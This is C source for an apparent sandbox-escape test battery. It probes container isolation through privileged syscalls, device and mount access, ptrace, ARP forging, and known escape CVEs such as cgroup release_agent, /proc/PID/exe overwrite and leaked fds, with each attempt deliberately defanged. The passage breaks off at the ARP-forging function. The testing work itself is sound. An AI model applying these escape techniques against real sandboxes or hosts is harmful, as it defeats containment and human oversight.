/*
 * Cloister escape battery: one attack per subcommand, run as root inside a sandbox (and, as a
 * control, on the host or in a deliberately weakened context).
 *
 * Every subcommand prints one line "RESULT <vector> <SUCCEEDED|BLOCKED|NA> <detail>" (plus
 * optional INFO lines) and exits 0 when the attack SUCCEEDED, 1 when it was BLOCKED, 2 when it
 * could not be attempted (NA), 3 on an error of the program itself.
 *
 * Every attack is harmless when it succeeds: writes put back the value they read, module and
 * kexec calls carry invalid images that no kernel loads, the block device is only read, files
 * opened for writing are closed without a byte written.
 *
 * Built statically (gcc -static) so that it also runs in a chroot for the controls.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/userfaultfd.h>
#include <arpa/inet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/io.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 0x00000001
struct mount_attr {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};
#endif
#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

static const char *vector = "?";

static int result(int code, const char *fmt, ...)
{
	static const char *names[] = {"SUCCEEDED", "BLOCKED", "NA", "ERROR"};
	char buf[2048];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(buf, sizeof buf, fmt, ap);
	va_end(ap);
	printf("RESULT %s %s %s\n", vector, names[code], buf);
	fflush(stdout);
	return code;
}

static void info(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	printf("INFO %s ", vector);
	vprintf(fmt, ap);
	printf("\n");
	fflush(stdout);
	va_end(ap);
}

/* errno values that mean "the kernel refused for lack of privilege". */
static int denied(int e)
{
	return e == EPERM || e == EACCES || e == EROFS;
}

/* ---------- mounts ---------- */

/* Remount PATH read-write (mount(2) and mount_setattr(2)), then try to create a probe file in it. */
static int remount_rw(const char *path, const char *probe)
{
	int r1 = mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	int e1 = r1 < 0 ? errno : 0;
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	int r2 = syscall(SYS_mount_setattr, AT_FDCWD, path, AT_RECURSIVE, &attr, sizeof attr);
	int e2 = r2 < 0 ? errno : 0;
	info("remount(%s)=%s mount_setattr(-RDONLY)=%s", path, r1 ? strerror(e1) : "ok", r2 ? strerror(e2) : "ok");
	int fd = open(probe, O_WRONLY | O_CREAT | O_EXCL, 0600);
	if (fd >= 0) {
		close(fd);
		unlink(probe);
		return result(0, "created %s after remount", probe);
	}
	int e = errno;
	return result(1, "remount %s: %s / %s; create %s: %s", path, r1 ? strerror(e1) : "ok",
		      r2 ? strerror(e2) : "ok", probe, strerror(e));
}

/* Mount a real (block-device) filesystem: the one under /usr, from a device node made for it. */
static int mount_realfs(void)
{
	struct stat st;
	if (stat("/usr", &st) < 0)
		return result(3, "stat /usr: %s", strerror(errno));
	const char *dev = "/tmp/clst-test-blk", *dir = "/tmp/clst-test-mnt";
	mkdir(dir, 0700);
	unlink(dev);
	int r = -1, e;
	if (mknod(dev, S_IFBLK | 0600, st.st_dev) == 0) {
		/* rw like the existing mount (a block superblock cannot be mounted with other ro/rw flags) */
		r = mount(dev, dir, "ext4", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
		e = errno;
		info("mount %s (%u:%u) -t ext4: %s", dev, major(st.st_dev), minor(st.st_dev), r ? strerror(e) : "ok");
		unlink(dev);
	} else {
		e = errno;
		info("mknod block %u:%u: %s", major(st.st_dev), minor(st.st_dev), strerror(e));
	}
	if (r != 0) {
		/* without a node: any path as source, through the new mount API */
		int fs = syscall(SYS_fsopen, "ext4", 0);
		if (fs >= 0) {
			syscall(SYS_fsconfig, fs, 0 /* SET_FLAG */, "ro", NULL, 0);
			syscall(SYS_fsconfig, fs, 1 /* SET_STRING */, "source", "/usr", 0);
			int c = syscall(SYS_fsconfig, fs, 6 /* CMD_CREATE */, NULL, NULL, 0);
			info("fsopen(ext4)+fsconfig(source=/usr, CMD_CREATE): %s", c ? strerror(errno) : "ok");
			if (c == 0)
				r = 0;
			close(fs);
		} else
			info("fsopen(ext4): %s", strerror(errno));
	}
	if (r == 0) {
		struct stat in;
		int same = stat(dir, &in) == 0 && in.st_dev == st.st_dev;
		umount2(dir, MNT_DETACH);
		rmdir(dir);
		return result(0, "mounted the filesystem of /usr%s", same ? " again (same device)" : "");
	}
	rmdir(dir);
	return result(1, "no block filesystem could be mounted");
}

/* Mount a tmpfs over PATH and leave a marker file in it; the host checks it never sees it. */
static int mount_over(const char *path, const char *marker)
{
	if (mount("clst-test", path, "tmpfs", 0, "size=64k") < 0)
		return result(1, "mount tmpfs on %s: %s", path, strerror(errno));
	char p[4096];
	snprintf(p, sizeof p, "%s/%s", path, marker);
	FILE *f = fopen(p, "w");
	if (f) {
		fputs("planted\n", f);
		fclose(f);
	}
	/* Success is decided by the host: does it see the marker? Print and stay mounted. */
	return result(0, "tmpfs mounted on %s inside; marker %s written (host must not see it)", path, p);
}

/* ---------- /proc, /sys ---------- */

/* Write back the current value of a kernel setting (a no-op if it works). */
static int write_same(const char *file, int unmask_parent)
{
	if (unmask_parent) {
		/* a root with CAP_SYS_ADMIN in its own namespaces may peel the read-only bind away */
		int r = umount2("/proc/sys", MNT_DETACH);
		info("umount /proc/sys: %s", r ? strerror(errno) : "ok (mask peeled)");
	}
	char buf[4096];
	int fd = open(file, O_RDONLY);
	if (fd < 0)
		return result(errno == ENOENT ? 2 : 3, "read %s: %s", file, strerror(errno));
	ssize_t n = read(fd, buf, sizeof buf);
	close(fd);
	if (n <= 0)
		n = 1, buf[0] = '\n';
	fd = open(file, O_WRONLY);
	if (fd < 0)
		return result(denied(errno) ? 1 : 3, "open %s for writing: %s", file, strerror(errno));
	ssize_t w = write(fd, buf, n);
	int e = errno;
	close(fd);
	if (w == n)
		return result(0, "wrote %zd bytes (the current value) to %s", w, file);
	return result(denied(e) ? 1 : 3, "write %s: %s", file, strerror(e));
}

static int read_file_head(const char *file)
{
	int fd = open(file, O_RDONLY);
	if (fd < 0)
		return result(errno == ENOENT ? 2 : denied(errno) ? 1 : 3, "open %s: %s", file, strerror(errno));
	char buf[64];
	ssize_t n = read(fd, buf, sizeof buf);
	int e = errno;
	close(fd);
	if (n > 0)
		return result(0, "read %zd bytes of %s", n, file);
	return result(n == 0 ? 1 : denied(e) ? 1 : 3, "read %s: %s", file, n == 0 ? "empty" : strerror(e));
}

static int kallsyms(void)
{
	FILE *f = fopen("/proc/kallsyms", "r");
	if (!f)
		return result(errno == ENOENT ? 2 : 1, "open /proc/kallsyms: %s", strerror(errno));
	char line[512];
	long total = 0, nonzero = 0;
	while (fgets(line, sizeof line, f)) {
		total++;
		if (strtoull(line, NULL, 16) != 0)
			nonzero++;
	}
	fclose(f);
	if (nonzero > 0)
		return result(0, "%ld of %ld symbols show real addresses", nonzero, total);
	return result(1, "all %ld symbol addresses are zero", total);
}

/* ---------- kernel-global syscalls ---------- */

/* A call that the kernel refuses with EPERM lacks privilege (or met the filter); any other outcome reached the kernel's real work. */
static int privileged_call(const char *what, long r)
{
	int e = errno;
	if (r >= 0)
		return result(0, "%s returned %ld", what, r);
	if (e == EPERM || e == EACCES)
		return result(1, "%s: %s", what, strerror(e));
	if (e == ENOSYS)
		return result(2, "%s: %s (not built into this kernel)", what, strerror(e));
	return result(0, "%s passed the privilege checks and failed later with %s (an invalid image/argument on purpose)",
		      what, strerror(e));
}

static int modules(void)
{
	static char junk[64]; /* not an ELF module: a kernel that gets this far refuses it with ENOEXEC */
	long r = syscall(SYS_init_module, junk, sizeof junk, "");
	int c1 = privileged_call("init_module", r);
	char tmp[] = "/tmp/clst-test-modXXXXXX";
	int fd = mkstemp(tmp);
	if (fd < 0)
		return result(3, "mkstemp: %s", strerror(errno));
	write(fd, junk, sizeof junk);
	unlink(tmp);
	r = syscall(SYS_finit_module, fd, "", 0);
	int c2 = privileged_call("finit_module", r);
	close(fd);
	return c1 == 0 || c2 == 0 ? 0 : c1 == 2 && c2 == 2 ? 2 : 1;
}

static int kexec(void)
{
	/* invalid architecture flags: a privileged caller gets EINVAL, nothing is loaded */
	long r = syscall(SYS_kexec_load, 0, 0, NULL, 0xdead0000UL);
	int c1 = privileged_call("kexec_load", r);
	r = syscall(SYS_kexec_file_load, -1, -1, 0, "", 0xdead0000UL);
	int c2 = privileged_call("kexec_file_load", r);
	return c1 == 0 || c2 == 0 ? 0 : c1 == 2 && c2 == 2 ? 2 : 1;
}

static int do_reboot(void)
{
	sync();
	long r = syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_POWER_OFF, NULL);
	/* inside a PID namespace the kernel kills its init (and us) instead of returning */
	return privileged_call("reboot(POWER_OFF)", r);
}

static int clock_set(void)
{
	struct timespec now;
	clock_gettime(CLOCK_REALTIME, &now);
	long r = clock_settime(CLOCK_REALTIME, &now); /* set it to what it is: harmless */
	int c1 = r == 0 ? result(0, "clock_settime(now) succeeded") : result(denied(errno) ? 1 : 3, "clock_settime: %s", strerror(errno));
	struct timeval tv;
	gettimeofday(&tv, NULL);
	r = settimeofday(&tv, NULL);
	int c2 = r == 0 ? result(0, "settimeofday(now) succeeded") : result(denied(errno) ? 1 : 3, "settimeofday: %s", strerror(errno));
	return c1 == 0 || c2 == 0 ? 0 : 1;
}

static int swap(void)
{
	/* a path that does not exist: a privileged caller gets ENOENT, nothing is swapped on */
	long r = swapon("/clst-test-no-such-swapfile", 0);
	int c1 = privileged_call("swapon", r);
	r = swapoff("/clst-test-no-such-swapfile");
	int c2 = privileged_call("swapoff", r);
	return c1 == 0 || c2 == 0 ? 0 : 1;
}

/* ---------- devices ---------- */

static int mknod_read(const char *type, unsigned maj, unsigned min, const char *path)
{
	mode_t m = (type[0] == 'b' ? S_IFBLK : S_IFCHR) | 0600;
	unlink(path);
	if (mknod(path, m, makedev(maj, min)) < 0)
		return result(denied(errno) ? 1 : 3, "mknod %s %u:%u at %s: %s", type, maj, min, path, strerror(errno));
	int fd = open(path, O_RDONLY); /* read-only, always */
	int e = errno;
	if (fd < 0) {
		unlink(path);
		return result(denied(e) ? 1 : 3, "mknod ok but open %s: %s", path, strerror(e));
	}
	char buf[512];
	ssize_t n = read(fd, buf, sizeof buf);
	e = errno;
	close(fd);
	unlink(path);
	if (n >= 0)
		return result(0, "read %zd bytes from device %u:%u", n, maj, min);
	return result(denied(e) ? 1 : 3, "read: %s", strerror(e));
}

static int rawio(void)
{
	int blocked = 1;
	if (iopl(3) == 0) {
		iopl(0);
		blocked = 0;
		info("iopl(3) succeeded");
	} else
		info("iopl(3): %s", strerror(errno));
	if (ioperm(0x80, 1, 1) == 0) {
		ioperm(0x80, 1, 0);
		blocked = 0;
		info("ioperm(0x80) succeeded");
	} else
		info("ioperm(0x80): %s", strerror(errno));
	const char *devs[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1"};
	for (unsigned i = 0; i < sizeof devs / sizeof *devs; i++) {
		int fd = open(devs[i], O_RDONLY);
		if (fd >= 0) {
			close(fd);
			blocked = 0;
			info("opened %s", devs[i]);
		}
	}
	char buf[64];
	if (syscall(SYS_syslog, 3 /* READ_ALL */, buf, sizeof buf) > 0) {
		blocked = 0;
		info("syslog(READ_ALL) read the host kernel log");
	} else
		info("syslog: %s", strerror(errno));
	return blocked ? result(1, "no port I/O, no raw device, no kernel log") : result(0, "raw access possible");
}

/* The benign equivalent for the control: the size of the kernel log buffer, through the same syslog call. */
static int rawio_benign(void)
{
	long n = syscall(SYS_syslog, 10 /* SIZE_BUFFER */, NULL, 0);
	if (n >= 0)
		return result(0, "syslog(SIZE_BUFFER) = %ld: the kernel log is reachable", n);
	return result(1, "syslog(SIZE_BUFFER): %s", strerror(errno));
}

/* ---------- open_by_handle_at ("shocker") ---------- */

static int shocker(const char *mountpoint)
{
	struct {
		struct file_handle fh;
		unsigned char bytes[128];
	} h;
	h.fh.handle_bytes = 128;
	int mount_id;
	if (syscall(SYS_name_to_handle_at, AT_FDCWD, mountpoint, &h.fh, &mount_id, 0) < 0)
		info("name_to_handle_at(%s): %s", mountpoint, strerror(errno));
	else
		info("name_to_handle_at(%s): type %d, %u bytes", mountpoint, h.fh.handle_type, h.fh.handle_bytes);
	/* the root inode of an ext4 filesystem: FILEID_INO32_GEN {ino=2, gen=0} */
	h.fh.handle_type = 1;
	h.fh.handle_bytes = 8;
	uint32_t ino2[2] = {2, 0};
	memcpy(h.fh.f_handle, ino2, 8);
	int mfd = open(mountpoint, O_RDONLY | O_DIRECTORY);
	if (mfd < 0)
		return result(3, "open %s: %s", mountpoint, strerror(errno));
	int fd = syscall(SYS_open_by_handle_at, mfd, &h.fh, O_RDONLY | O_DIRECTORY);
	int e = errno;
	close(mfd);
	if (fd < 0)
		return result(e == EPERM || e == EACCES ? 1 : 3, "open_by_handle_at(root inode of %s's fs): %s", mountpoint, strerror(e));
	DIR *d = fdopendir(fd);
	struct dirent *de;
	char names[512] = "";
	int n = 0;
	while (d && (de = readdir(d)) && n < 12) {
		strncat(names, de->d_name, sizeof names - strlen(names) - 2);
		strcat(names, " ");
		n++;
	}
	if (d)
		closedir(d);
	return result(0, "opened the filesystem's root by handle: %s", names);
}

/* ---------- cgroup v1 release_agent (CVE-2022-0492) ---------- */

static int try_cgroup1(const char *dir, const char *opts)
{
	if (mount("cgroup", dir, "cgroup", 0, opts) < 0) {
		info("mount cgroup v1 (%s): %s", opts, strerror(errno));
		return 1;
	}
	char p[4096];
	int hit = 1;
	const char *files[] = {"release_agent", "notify_on_release", "pids.max", "memory.limit_in_bytes", "cgroup.procs"};
	for (int i = 0; i < 5; i++) {
		snprintf(p, sizeof p, "%s/%s", dir, files[i]);
		if (i >= 2 && access(p, F_OK) != 0)
			continue;
		int fd = open(p, O_WRONLY); /* opened, never written */
		if (fd >= 0) {
			info("mounted cgroup v1 (%s) and opened %s for writing", opts, files[i]);
			close(fd);
			hit = 0;
		} else
			info("mounted cgroup v1 (%s); open %s: %s", opts, files[i], strerror(errno));
	}
	umount2(dir, MNT_DETACH);
	return hit;
}

static int cgroup1(const char *dir)
{
	mkdir(dir, 0700);
	const char *opts[] = {"pids", "memory", "rdma", "none,name=clsttest"};
	int blocked = 1;
	for (int i = 0; i < 4; i++)
		if (try_cgroup1(dir, opts[i]) == 0)
			blocked = 0;
	/* the CVE's path: root of a fresh user namespace, with its own cgroup and mount namespaces */
	pid_t pid = fork();
	if (pid == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
			info("unshare(user|mnt|cgroup): %s", strerror(errno));
			_exit(1);
		}
		mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		int b = 1;
		for (int i = 0; i < 4; i++)
			if (try_cgroup1(dir, opts[i]) == 0)
				b = 0;
		_exit(b);
	}
	int st;
	waitpid(pid, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
		blocked = 0;
	/* and what the sandbox's own cgroup tree offers */
	if (access("/sys/fs/cgroup/release_agent", F_OK) == 0) {
		int fd = open("/sys/fs/cgroup/release_agent", O_WRONLY);
		if (fd >= 0) {
			close(fd);
			blocked = 0;
			info("/sys/fs/cgroup/release_agent is writable");
		}
	} else
		info("/sys/fs/cgroup has no release_agent (%s)", strerror(errno));
	rmdir(dir);
	return blocked ? result(1, "v1 hierarchies mount only as the sandbox's own cgroup: no release_agent, no writable control file")
		       : result(0, "a release_agent could be opened for writing");
}

/* ---------- /proc/PID/exe (CVE-2019-5736) ---------- */

static int exe_race(int seconds, const char *needle)
{
	time_t end = time(NULL) + seconds;
	long scans = 0, seen = 0, opened = 0, writable = 0, denied_exe = 0;
	pid_t self = getpid();
	while (time(NULL) < end) {
		scans++;
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid <= 0 || pid == self)
				continue;
			char p[64], target[4096];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			ssize_t n = readlink(p, target, sizeof target - 1);
			if (n < 0) {
				if (errno == EACCES || errno == EPERM)
					denied_exe++;
				continue;
			}
			target[n] = 0;
			if (!strstr(target, needle))
				continue;
			seen++;
			int fd = open(p, O_RDONLY);
			if (fd < 0)
				continue;
			opened++;
			/* the CVE: once the process has moved on, reopen the binary for writing */
			for (int i = 0; i < 2000; i++) {
				char self_fd[64];
				snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
				int w = open(self_fd, O_WRONLY); /* never written */
				if (w >= 0) {
					close(w);
					writable++;
					break;
				}
				if (errno != ETXTBSY)
					break;
				usleep(500);
			}
			close(fd);
		}
		if (d)
			closedir(d);
	}
	/* PID 1's binary, the classic first target */
	int fd = open("/proc/1/exe", O_WRONLY);
	info("open /proc/1/exe for writing: %s", fd >= 0 ? "ok" : strerror(errno));
	if (fd >= 0) {
		close(fd);
		writable++;
	}
	info("scans=%ld seen=%ld opened=%ld writable=%ld exe-denied=%ld", scans, seen, opened, writable, denied_exe);
	if (writable)
		return result(0, "a host binary (%s) could be opened for writing through /proc/PID/exe", needle);
	return result(1, "saw %ld processes running %s, opened %ld, none writable", seen, needle, opened);
}

/* Control: a process we own runs a copy of a binary; its /proc/PID/exe is reopened for writing after it exits. */
static int exe_control(const char *copy)
{
	pid_t pid = fork();
	if (pid == 0) {
		execl(copy, copy, "spin", "30", (char *)NULL);
		_exit(127);
	}
	usleep(200000);
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	int fd = open(p, O_RDONLY);
	int e = errno;
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	if (fd < 0)
		return result(1, "open %s: %s", p, strerror(e));
	char self_fd[64];
	snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
	int w = open(self_fd, O_WRONLY);
	close(fd);
	if (w >= 0) {
		close(w);
		return result(0, "reopened the exited process's binary for writing through /proc/PID/exe");
	}
	return result(1, "reopen for writing: %s", strerror(errno));
}

/* ---------- leaked fds / cwd (CVE-2024-21626) ---------- */

/* Walk ".." from dirfd to the top; true when the top is not our root (a way out). */
static int escapes(int dirfd, char *why, size_t whylen)
{
	struct stat root, cur, up;
	if (stat("/", &root) < 0)
		return 0;
	int fd = dup(dirfd);
	for (int i = 0; i < 256; i++) {
		if (fstat(fd, &cur) < 0)
			break;
		int p = openat(fd, "..", O_RDONLY | O_DIRECTORY);
		if (p < 0)
			break;
		fstat(p, &up);
		close(fd);
		fd = p;
		if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino)
			break;
	}
	fstat(fd, &cur);
	close(fd);
	int out = !(cur.st_dev == root.st_dev && cur.st_ino == root.st_ino);
	snprintf(why, whylen, "top %lu:%lu vs root %lu:%lu", (unsigned long)cur.st_dev, (unsigned long)cur.st_ino,
		 (unsigned long)root.st_dev, (unsigned long)root.st_ino);
	return out;
}

static int check_dir_fd(int fd, const char *name, int *found)
{
	struct stat st;
	if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))
		return 0;
	char why[256];
	if (escapes(fd, why, sizeof why)) {
		info("%s is a directory outside the root (%s)", name, why);
		(*found)++;
	}
	return 0;
}

static int leaks(const char *chroot_to)
{
	if (chroot_to && chroot(chroot_to) < 0) /* control: chroot without chdir, as a buggy runtime would */
		return result(3, "chroot: %s", strerror(errno));
	int found = 0;
	char cwd[4096];
	if (!getcwd(cwd, sizeof cwd))
		info("getcwd: %s", strerror(errno));
	else
		info("cwd %s", cwd);
	int dot = open(".", O_RDONLY | O_DIRECTORY);
	if (dot >= 0) {
		check_dir_fd(dot, "cwd", &found);
		close(dot);
	}
	int maxfd = 1024;
	for (int fd = 0; fd < maxfd; fd++) {
		struct stat st;
		if (fd == dot || fstat(fd, &st) < 0)
			continue;
		char p[64], t[4096];
		snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(p, t, sizeof t - 1);
		t[n > 0 ? n : 0] = 0;
		info("fd %d -> %s", fd, t);
		char name[32];
		snprintf(name, sizeof name, "fd %d", fd);
		check_dir_fd(fd, name, &found);
	}
	/* PID 1's cwd, root and open directories, as root inside can open them */
	const char *pid1[] = {"/proc/1/cwd", "/proc/1/root"};
	for (int i = 0; i < 2; i++) {
		int fd = open(pid1[i], O_RDONLY | O_DIRECTORY);
		if (fd >= 0) {
			check_dir_fd(fd, pid1[i], &found);
			close(fd);
		}
	}
	DIR *d = opendir("/proc/1/fd");
	struct dirent *de;
	int n1 = 0;
	while (d && (de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		char p[300];
		snprintf(p, sizeof p, "/proc/1/fd/%s", de->d_name);
		int fd = open(p, O_RDONLY | O_DIRECTORY | O_NONBLOCK);
		n1++;
		if (fd >= 0) {
			check_dir_fd(fd, p, &found);
			close(fd);
		}
	}
	if (d)
		closedir(d);
	info("checked %d fds of PID 1", n1);
	if (found)
		return result(0, "%d directory handle(s) lead outside the root", found);
	return result(1, "no fd or cwd leads outside the root");
}

/* ---------- namespaces ---------- */

static int namespaces(void)
{
	const char *types[] = {"user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"};
	for (int i = 0; i < 8; i++) {
		char p[64];
		struct stat st;
		snprintf(p, sizeof p, "/proc/self/ns/%s", types[i]);
		if (stat(p, &st) == 0)
			printf("NS self %s %lu\n", types[i], (unsigned long)st.st_ino);
	}
	DIR *d = opendir("/proc");
	struct dirent *de;
	int joined = 0;
	while (d && (de = readdir(d))) {
		int pid = atoi(de->d_name);
		if (pid <= 0)
			continue;
		for (int i = 0; i < 8; i++) {
			char p[64];
			struct stat st;
			snprintf(p, sizeof p, "/proc/%d/ns/%s", pid, types[i]);
			if (stat(p, &st) == 0)
				printf("NS %d %s %lu\n", pid, types[i], (unsigned long)st.st_ino);
		}
	}
	if (d)
		closedir(d);
	/* joining PID 1's namespaces works only if they are ours; try them in a child */
	pid_t c = fork();
	if (c == 0) {
		const char *j[] = {"net", "ipc", "uts", "cgroup", "mnt"};
		int ok = 0;
		for (int i = 0; i < 5; i++) {
			char p[64];
			snprintf(p, sizeof p, "/proc/1/ns/%s", j[i]);
			int fd = open(p, O_RDONLY);
			if (fd >= 0 && setns(fd, 0) == 0)
				ok++;
		}
		_exit(ok);
	}
	int st;
	waitpid(c, &st, 0);
	joined = WIFEXITED(st) ? WEXITSTATUS(st) : -1;
	fflush(stdout);
	return result(1, "listed every visible namespace; setns into %d of PID 1's (the host decides whose they are)", joined);
}

/* ---------- processes ---------- */

static int find_proc(const char *marker, int hostpid)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int found = 0;
	while (d && (de = readdir(d))) {
		int pid = atoi(de->d_name);
		if (pid <= 0)
			continue;
		char p[64], buf[4096];
		snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
		int fd = open(p, O_RDONLY);
		if (fd < 0)
			continue;
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n <= 0)
			continue;
		for (ssize_t i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = ' ';
		buf[n] = 0;
		if (pid != getpid() && strstr(buf, marker)) {
			info("pid %d runs %s", pid, buf);
			found++;
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
				info("ptrace-seized %d", pid);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
		}
	}
	if (d)
		closedir(d);
	if (hostpid > 0) {
		char p[64];
		snprintf(p, sizeof p, "/proc/%d", hostpid);
		if (access(p, F_OK) != 0) {
			/* the number is not a process here: signal 0 and ptrace must both find nothing */
			int k = kill(hostpid, 0);
			int ke = errno;
			long t = ptrace(PTRACE_SEIZE, hostpid, 0, 0);
			int te = errno;
			info("kill(%d, 0)=%s ptrace(%d)=%s", hostpid, k ? strerror(ke) : "ok", hostpid, t ? strerror(te) : "ok");
			if (k == 0 || t == 0)
				found++;
		} else
			info("pid number %d exists here too (a process of this namespace)", hostpid);
	}
	if (found)
		return result(0, "found/reached %d process(es) matching %s", found, marker);
	return result(1, "no process matching %s is visible, signalable or traceable", marker);
}

/* ---------- attack-surface syscalls ---------- */

static int surface(const char *which)
{
	long r = -1;
	if (!strcmp(which, "bpf")) {
		union bpf_attr a;
		memset(&a, 0, sizeof a);
		a.map_type = BPF_MAP_TYPE_ARRAY;
		a.key_size = 4;
		a.value_size = 4;
		a.max_entries = 1;
		r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
	} else if (!strcmp(which, "perf")) {
		struct perf_event_attr a;
		memset(&a, 0, sizeof a);
		a.type = PERF_TYPE_SOFTWARE;
		a.size = sizeof a;
		a.config = PERF_COUNT_SW_TASK_CLOCK;
		a.disabled = 1;
		r = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
	} else if (!strcmp(which, "userfaultfd")) {
		r = syscall(SYS_userfaultfd, O_CLOEXEC);
	} else if (!strcmp(which, "keyctl")) {
		r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
	} else if (!strcmp(which, "io_uring")) {
		struct io_uring_params p;
		memset(&p, 0, sizeof p);
		r = syscall(SYS_io_uring_setup, 4, &p);
	} else
		return result(3, "unknown surface %s", which);
	int e = errno;
	if (r >= 0) {
		if (strcmp(which, "keyctl"))
			close(r);
		return result(0, "%s returned %ld", which, r);
	}
	return result(e == EPERM || e == EACCES ? 1 : e == ENOSYS ? 2 : 3, "%s: %s", which, strerror(e));
}

/* ---------- IPC, abstract sockets ---------- */

static int ipc(const char *op, const char *keytext)
{
	key_t key = (key_t)strtol(keytext, NULL, 0);
	if (!strcmp(op, "create")) {
		int id = shmget(key, 4096, IPC_CREAT | 0600);
		return id >= 0 ? result(0, "created shm key %#x id %d", key, id) : result(3, "shmget: %s", strerror(errno));
	}
	int id = shmget(key, 0, 0);
	if (id >= 0)
		return result(0, "found shm key %#x id %d", key, id);
	return result(errno == ENOENT ? 1 : 3, "shm key %#x: %s", key, strerror(errno));
}

static socklen_t abstract_addr(struct sockaddr_un *a, const char *name)
{
	memset(a, 0, sizeof *a);
	a->sun_family = AF_UNIX;
	size_t n = strlen(name);
	memcpy(a->sun_path + 1, name, n);
	return offsetof(struct sockaddr_un, sun_path) + 1 + n;
}

static int abs_listen(const char *name, int seconds)
{
	struct sockaddr_un a;
	socklen_t len = abstract_addr(&a, name);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(s, (struct sockaddr *)&a, len) < 0 || listen(s, 8) < 0)
		return result(3, "bind @%s: %s", name, strerror(errno));
	printf("LISTENING\n");
	fflush(stdout);
	time_t end = time(NULL) + seconds;
	while (time(NULL) < end) {
		struct pollfd p = {.fd = s, .events = POLLIN};
		if (poll(&p, 1, 200) > 0) {
			int c = accept(s, NULL, NULL);
			if (c >= 0) {
				write(c, "hello\n", 6);
				close(c);
			}
		}
	}
	return result(0, "listened on @%s", name);
}

static int abs_connect(const char *name)
{
	struct sockaddr_un a;
	socklen_t len = abstract_addr(&a, name);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, len) < 0)
		return result(1, "connect @%s: %s", name, strerror(errno));
	close(s);
	return result(0, "connected to @%s", name);
}

/* ---------- network ---------- */

static int ifaces(void)
{
	struct if_nameindex *l = if_nameindex();
	if (!l)
		return result(3, "if_nameindex: %s", strerror(errno));
	for (struct if_nameindex *i = l; i->if_index; i++)
		printf("IFACE %s\n", i->if_name);
	if_freenameindex(l);
	return result(1, "listed interfaces (the host decides)");
}

static int sniff(const char *marker, int seconds)
{
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (s < 0)
		return result(denied(errno) ? 1 : 3, "AF_PACKET socket: %s", strerror(errno));
	printf("SNIFFING\n");
	fflush(stdout);
	long packets = 0;
	time_t end = time(NULL) + seconds;
	size_t ml = strlen(marker);
	while (time(NULL) < end) {
		struct pollfd p = {.fd = s, .events = POLLIN};
		if (poll(&p, 1, 200) <= 0)
			continue;
		unsigned char buf[65536];
		ssize_t n = recv(s, buf, sizeof buf, 0);
		if (n <= 0)
			continue;
		packets++;
		if ((size_t)n >= ml && memmem(buf, n, marker, ml)) {
			close(s);
			return result(0, "captured a packet carrying %s (after %ld packets)", marker, packets);
		}
	}
	close(s);
	return result(1, "captured %ld packets in %d s, none carrying the marker", packets, seconds);
}

/*
 * arp-forge IFNAME CLAIM_IP TARGET_IP [MAC]: broadcasts 3 ARP requests on IFNAME that claim
 * CLAIM_IP for MAC (default: IFNAME's own), asking for TARGET_IP: hosts on the segment that
 * learn from requests (Linux updates an existing neighbour entry) then send CLAIM_IP's traffic
 * to MAC. Reports only what was sent: the test sees the effect (where traffic goes).
 */
static int arp_forge(const char *ifname, const char *claim, const char *target, const char *macstr)
{
